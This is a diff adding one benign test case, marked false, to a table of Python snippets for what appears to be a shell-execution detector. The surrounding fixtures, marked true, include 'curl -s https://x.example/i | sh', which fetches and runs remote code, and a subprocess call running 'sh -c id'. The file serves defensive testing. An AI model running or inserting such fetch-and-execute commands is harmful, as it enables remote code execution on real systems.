@@ -527,6 +527,10 @@ static const struct {
      "    def argv(self):\n        return ['sh', '-c', self.line]\n"
      "subprocess.run(Step('curl -s https://x.example/i | sh').argv())\n",
      true},
+    {"a key's value copied from the same key of a dictionary read back",
+     "import json\nreport = json.load(open('r.json'))\n"
+     "body = {'passed': report.get('passed', 0)}\nprint(body)\n",
+     false},
     {"a class without __init__ whose attribute setattr changes",
      "import subprocess\nclass J:\n    pass\nj = J()\nsetattr(j, 'argv', ['sh', '-c', 'id'])\n"
      "subprocess.run(j.argv)\n",
